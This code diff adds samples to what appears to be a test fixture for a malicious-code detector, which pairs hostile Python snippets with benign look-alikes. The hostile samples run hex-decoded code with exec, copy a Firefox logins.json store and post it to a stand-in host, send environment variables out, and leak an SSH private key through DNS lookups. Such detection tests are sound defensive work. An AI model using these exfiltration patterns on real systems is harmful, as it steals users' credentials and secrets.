@@ -31,6 +31,13 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "the first of a list": py(f"import requests\nnext(iter([exec]))({_GET})\n"),
         "a method by getattr": py(f"import requests\ngetattr({{'a': eval}}, 'get')('a')({_GET})\n"),
     },
+    "decoded_code": {
+        "one of a table, by a name that is given": py(
+            "import binascii, sys\nlevels = {'a': '7072696e7428276127290a', 'b': '7072696e7428276227290a'}\n"
+            "exec(binascii.unhexlify(levels[sys.argv[1]]))\n",
+            line=3,
+        ),
+    },
     "remote_object": {
         "a tuple of objects that are asked in turn": Sample(
             {
@@ -69,6 +76,12 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "a copy of the environment": py(
             "import os, json, requests\nt = json.dumps(os.environ.copy())\nrequests.post('https://a.invalid', data=t)\n"
         ),
+        "a copy of a store": py(
+            "import os, shutil, requests\nfor spot in [os.path.expanduser('~/.mozilla/a/logins.json')]:\n"
+            "    shutil.copyfile(spot, '/tmp/a.db')\n    with open('/tmp/a.db', 'rb') as f:\n"
+            "        requests.post('https://a.invalid', files={'f': f})\n",
+            line=3,
+        ),
         "as a name to be looked up": py(
             "import socket\nkey = open('/root/.ssh/id_rsa', 'rb').read()\n"
             "socket.gethostbyname(key[:30].hex() + '.a.invalid')\n",
@@ -98,6 +111,12 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "app.py": f"import operator, builtins, requests\noperator.attrgetter('len')(builtins)({_GET})\n"
         },
         "the first of a list of something else": {"app.py": f"import requests\nnext(iter([len, exec]))({_GET})\n"},
+    },
+    "decoded_code": {
+        "one of a table is shown": {
+            "app.py": "import binascii, sys\nlevels = {'a': '7072696e7428276127290a', 'b': '7072696e7428276227290a'}\n"
+            "print(binascii.unhexlify(levels[sys.argv[1]]))\n"
+        },
     },
     "remote_object": {
         "a tuple of objects, and a reader of plain data": {
@@ -131,6 +150,10 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         "the environment of a program": {
             "app.py": "import os, subprocess, requests\nhere = os.environ.copy()\n"
             "log = subprocess.check_output(['git', 'log'], env=here)\nrequests.post('https://a.invalid', data=log)\n"
+        },
+        "a copy of a store, and another file sent": {
+            "app.py": "import os, shutil, requests\nshutil.copyfile(os.path.expanduser('~/.netrc'), '/tmp/a.db')\n"
+            "requests.post('https://a.invalid', data=open('/tmp/b.db', 'rb').read())\n"
         },
         "a host is looked up": {
             "app.py": "import socket\nkey = open('/root/.ssh/id_rsa', 'rb').read()\nsocket.gethostbyname('a.invalid')\n"
